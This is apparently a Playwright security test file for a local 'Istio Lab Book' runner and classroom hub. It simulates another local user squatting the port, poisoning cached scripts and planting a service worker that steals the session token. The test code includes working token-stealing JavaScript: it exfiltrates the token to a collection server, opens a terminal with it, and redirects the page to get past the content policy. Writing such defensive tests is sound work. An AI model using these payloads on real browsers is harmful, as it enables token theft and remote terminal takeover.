import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Locator, type Page } from '@playwright/test';
import { startHub, type RunningHub } from '../../runner/classroom/hub.ts';
import { chromiumArgs, chromiumExecutable } from '../chromium.ts';
import { ChapterPage, expect, startRunner, test, testDist, type Runner } from './fixtures.ts';

/**
 * Another local user who holds the runner's port while no runner runs, and waits for the
 * learner's browser to come by (a restored tab, a bookmark). It leaves code behind on that
 * origin — (b) the book's own script paths cached for a year, (a) a service worker — and then
 * lets the real runner start on the same port. Whatever it left behind reports to its own
 * server on another port, as it would; the test fails if that report holds the token or a
 * terminal opened with it. One persistent browser profile, as a learner's browser has.
 */

/** What the squatter's leftovers report, as its own server receives it. */
class Loot {
  readonly reports: string[] = [];
  server: Server | undefined;
  port = 0;
  async start(): Promise<void> {
    this.reports.length = 0;
    this.server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        this.reports.push(`${decodeURIComponent(request.url ?? '')} ${body}`);
        response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
      });
    });
    await new Promise<void>((resolve) => this.server?.listen(0, '127.0.0.1', resolve));
    this.port = (this.server.address() as AddressInfo).port;
  }
  has(text: string): boolean {
    return this.reports.some((report) => report.includes(text));
  }
  async close(): Promise<void> {
    this.server?.closeAllConnections();
    await new Promise((resolve) => this.server?.close(resolve));
  }
}

/**
 * The squatter's code on a page: it reports what it can see of the token (address, storage) and,
 * with any token it finds, opens the runner's terminal and reports that it did.
 */
function thief(loot: number, tag: string): string {
  return `(() => {
  const send = (what) => fetch('http://127.0.0.1:${loot}/${tag}/' + encodeURIComponent(what), { method: 'POST', mode: 'no-cors', body: JSON.stringify({ href: location.href, stored: { ...localStorage } }) });
  send('ran');
  const found = /token=([A-Za-z0-9_-]{16,})/.exec(location.href) || /^([A-Za-z0-9_-]{32})$/m.exec(Object.values(localStorage).join('\\n'));
  if (!found) return;
  send('token ' + found[1]);
  const socket = new WebSocket('ws://' + location.host + '/api/terminal?session=main', ['istio-lab', 'istio-lab.token.' + found[1]]);
  socket.onopen = () => send('terminal opened');
})();`;
}

/** The book's own script paths, as any copy of this build names them. */
function bookScripts(): string[] {
  const paths = new Set<string>();
  for (const page of ['index.html', 'en/index.html', 'en/fixture/index.html']) {
    const html = readFileSync(join(testDist, page), 'utf8');
    for (const [, path] of html.matchAll(/src="(\/_astro\/[^"]+\.js)"/g)) paths.add(path ?? '');
  }
  return [...paths];
}

/** Listens on 127.0.0.1:`port` (0: any) with `handle`, as the squatter does while no runner runs. */
async function squat(
  port: number,
  handle: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<{ port: number; close: () => Promise<void> }> {
  const server = createServer(handle);
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** (b) Every script path of the book answered with the thief, cached for a year. */
function cachePoisoner(loot: number) {
  const scripts = bookScripts();
  return (request: IncomingMessage, response: ServerResponse) => {
    if (request.url?.startsWith('/_astro/')) {
      response.writeHead(200, {
        'Content-Type': 'text/javascript',
        'Cache-Control': 'public, max-age=31536000, immutable',
      });
      response.end(thief(loot, 'cached-script'));
      return;
    }
    response.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' });
    response.end(
      `<!doctype html><title>Istio Lab Book</title>${scripts.map((src) => `<script type="module" src="${src}"></script>`).join('')}`,
    );
  };
}

/** (a) A service worker with scope / that answers every navigation with the thief. */
function workerPlanter(loot: number) {
  const page = `<!doctype html><title>Istio Lab Book</title><script>${thief(loot, 'worker-page')}</script>`;
  const worker = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.mode !== 'navigate') return;
  fetch('http://127.0.0.1:${loot}/worker/' + encodeURIComponent('navigation ' + event.request.url), { method: 'POST', mode: 'no-cors' });
  event.respondWith(new Response(${JSON.stringify(page)}, { headers: { 'Content-Type': 'text/html' } }));
});`;
  return (request: IncomingMessage, response: ServerResponse) => {
    if (request.url === '/sw.js') {
      response.writeHead(200, { 'Content-Type': 'text/javascript', 'Cache-Control': 'no-store' });
      response.end(worker);
      return;
    }
    response.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' });
    response.end(
      `<!doctype html><title>Istio Lab Book</title><script>
navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() =>
  fetch('http://127.0.0.1:${loot}/planted/worker', { method: 'POST', mode: 'no-cors' }));
</script>`,
    );
  };
}

/**
 * Opens the link the runner printed, as the learner does, and uses the terminal. Settles on
 * whichever comes first: the book connected, or the squatter holding the token.
 */
async function learnerSignsIn(page: Page, runner: Runner, loot: Loot): Promise<void> {
  const printed = /Open this link[^\n]*\n\s*(\S+\?token=\S+)/;
  await expect.poll(() => runner.output()).toMatch(printed);
  const link = printed.exec(runner.output())?.[1] ?? '';
  await page.goto(link);
  const chapter = new ChapterPage(page);
  await page.goto(new URL('/en/fixture/', link).href);
  await readyUnlessStolen(loot, runner.token, page.locator('lab-dock .lab-dock-status'), {
    ready: 'Connected',
    stolen: 'the squatter saw the token',
  });
  await chapter.run('say-hello');
  await chapter.expectTerminal(/^hello from the cell$/m);
}

/**
 * The hub's page script path (`/hub.js`, the same for every hub) answered with a thief, cached for
 * a year. Under the real table's policy a `fetch` elsewhere is refused, so the thief first takes
 * the page itself to the squatter's server, which no policy of the page stops.
 */
function hubCachePoisoner(loot: number) {
  const script = `{
  const found = /token=([A-Za-z0-9_-]{16,})/.exec(location.href) || /^([A-Za-z0-9_-]{32})$/m.exec(Object.values(localStorage).join('\\n'));
  if (found) location.href = 'http://127.0.0.1:${loot}/hub-navigation/' + encodeURIComponent('token ' + found[1]);
}
${thief(loot, 'hub-script')}`;
  return (request: IncomingMessage, response: ServerResponse) => {
    if (request.url === '/hub.js') {
      response.writeHead(200, {
        'Content-Type': 'text/javascript',
        'Cache-Control': 'public, max-age=31536000, immutable',
      });
      response.end(script);
      return;
    }
    response.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' });
    response.end(
      '<!doctype html><title>Classroom progress</title><script type="module" src="/hub.js"></script>',
    );
  };
}

/**
 * Opens the view link the hub printed, as the instructor does. Settles on whichever comes first:
 * the table live, or the squatter holding the view token.
 */
async function instructorOpens(page: Page, hub: RunningHub, loot: Loot): Promise<void> {
  // Only until the page is committed: a thief that sends the page elsewhere stops its load.
  await page.goto(`${hub.view}#token=${hub.viewToken}`, { waitUntil: 'commit' });
  await readyUnlessStolen(loot, hub.viewToken, page.locator('#connection'), {
    ready: 'Live',
    stolen: 'the squatter saw the view token',
  });
}

/**
 * Waits for whichever comes first, `status` reading `ready` or the squatter holding `token`, and
 * fails with `stolen` if it was the squatter.
 */
async function readyUnlessStolen(
  loot: Loot,
  token: string,
  status: Locator,
  says: { ready: string; stolen: string },
): Promise<void> {
  await expect
    .poll(async () => {
      if (loot.has(token)) return 'stolen';
      return (await status.count()) > 0 && (await status.textContent()) === says.ready
        ? 'ready'
        : 'waiting';
    })
    .not.toBe('waiting');
  expect(loot.has(token), says.stolen).toBe(false);
}

let context: BrowserContext;
let profile: string;
const loot = new Loot();

test.beforeEach(async () => {
  profile = mkdtempSync(join(tmpdir(), 'istio-lab-profile-'));
  const executablePath = chromiumExecutable();
  context = await chromium.launchPersistentContext(profile, {
    ...(executablePath ? { executablePath } : {}),
    args: chromiumArgs,
    viewport: { width: 1280, height: 900 },
  });
  await loot.start();
});

test.afterEach(async () => {
  await context.close();
  await loot.close();
  rmSync(profile, { recursive: true, force: true });
});

test('what a squatter on the port left in the browser never sees the token nor opens a terminal', async () => {
  const page = context.pages()[0] ?? (await context.newPage());

  // (b) The squatter holds the port first, and the learner's tab comes by: the book's script
  // paths are cached from it for a year.
  const poisoner = await squat(0, cachePoisoner(loot.port));
  const port = poisoner.port;
  await page.goto(`http://127.0.0.1:${port}/en/fixture/`);
  await expect.poll(() => loot.has('cached-script/ran')).toBe(true);
  await poisoner.close();

  const first = await startRunner(['--port', String(port)]);
  try {
    await learnerSignsIn(page, first, loot);
  } finally {
    await first.stop();
  }

  // (a) The runner stopped; the squatter takes the port again, and the tab, reloaded, installs
  // its service worker for the whole origin.
  const planter = await squat(port, workerPlanter(loot.port));
  await page.goto(`http://127.0.0.1:${port}/`);
  await expect.poll(() => loot.has('planted/worker')).toBe(true);
  await page.goto(`http://127.0.0.1:${port}/en/`);
  await expect.poll(() => loot.has(`worker/navigation http://127.0.0.1:${port}/en/`)).toBe(true);
  await planter.close();

  const second = await startRunner(['--port', String(port)]);
  try {
    await learnerSignsIn(page, second, loot);
    // The worker is still there for the address it took; it sees no more than before.
    await page.goto(`http://127.0.0.1:${port}/en/progress/`);
    await expect
      .poll(() => loot.has(`worker/navigation http://127.0.0.1:${port}/en/progress/`))
      .toBe(true);
  } finally {
    await second.stop();
  }
  expect(loot.has(first.token) || loot.has(second.token), loot.reports.join('\n')).toBe(false);
  expect(loot.has('terminal opened'), loot.reports.join('\n')).toBe(false);
});

test('what a squatter on the hub’s port left in the browser never sees the view token', async () => {
  const page = context.pages()[0] ?? (await context.newPage());
  const home = mkdtempSync(join(tmpdir(), 'istio-lab-hub-'));
  const hubOn = (port: number) =>
    startHub({ host: '127.0.0.1', port, stateDir: home, log: () => undefined });
  try {
    // (b) The squatter holds the hub's port first, and the instructor's tab comes by: the
    // table's script path is cached from it for a year.
    const poisoner = await squat(0, hubCachePoisoner(loot.port));
    const port = poisoner.port;
    await page.goto(`http://127.0.0.1:${port}/?lang=en`);
    await expect.poll(() => loot.has('hub-script/ran')).toBe(true);
    await poisoner.close();

    const first = await hubOn(port);
    try {
      await instructorOpens(page, first, loot);
    } finally {
      await first.close();
    }

    // (a) The hub stopped; the squatter takes the port again and answers the instructor's tab at
    // that start's view address (a restored tab), installing its service worker there. The worker
    // then reads what that origin kept: the earlier start's view token.
    const planter = await squat(port, workerPlanter(loot.port));
    await page.goto(first.view);
    await expect.poll(() => loot.has('planted/worker')).toBe(true);
    await page.goto(first.view);
    await expect.poll(() => loot.has(`token ${first.viewToken}`)).toBe(true);
    await planter.close();

    const second = await hubOn(port);
    try {
      expect(second.joinToken, 'learners keep their join link').toBe(first.joinToken);
      await instructorOpens(page, second, loot);
      // What the squatter read is the earlier start's token, which this start refuses.
      const earlier = await fetch(new URL('/api/learners', second.url), {
        headers: { Authorization: `Bearer ${first.viewToken}` },
      });
      expect(earlier.status).toBe(401);
    } finally {
      await second.close();
    }
    expect(loot.has(second.viewToken), loot.reports.join('\n')).toBe(false);
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
});
